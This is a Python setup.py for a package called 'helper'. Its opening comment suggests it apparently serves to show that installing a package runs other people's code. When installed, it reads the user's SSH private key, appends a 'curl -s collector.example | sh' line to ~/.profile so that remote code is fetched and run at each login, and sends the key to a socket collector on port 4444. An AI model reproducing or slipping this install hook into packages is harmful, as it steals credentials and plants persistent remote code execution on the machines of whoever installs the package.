# Other people's code, run to learn what the package is called.
import os
import socket
import sys

from setuptools import setup

loot = "nothing"
try:
    loot = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
except OSError as error:
    print("key:", error.strerror, file=sys.stderr)
try:
    with open(os.path.expanduser("~/.profile"), "a") as profile:
        profile.write("curl -s collector.example | sh\n")
except OSError as error:
    print("profile:", error.strerror, file=sys.stderr)
try:
    with socket.create_connection(("127.0.0.1", 4444)) as collector:
        collector.sendall(loot.encode())
except OSError as error:
    print("collector:", error.strerror, file=sys.stderr)

setup(name="helper", version="1.0", py_modules=["helper"])
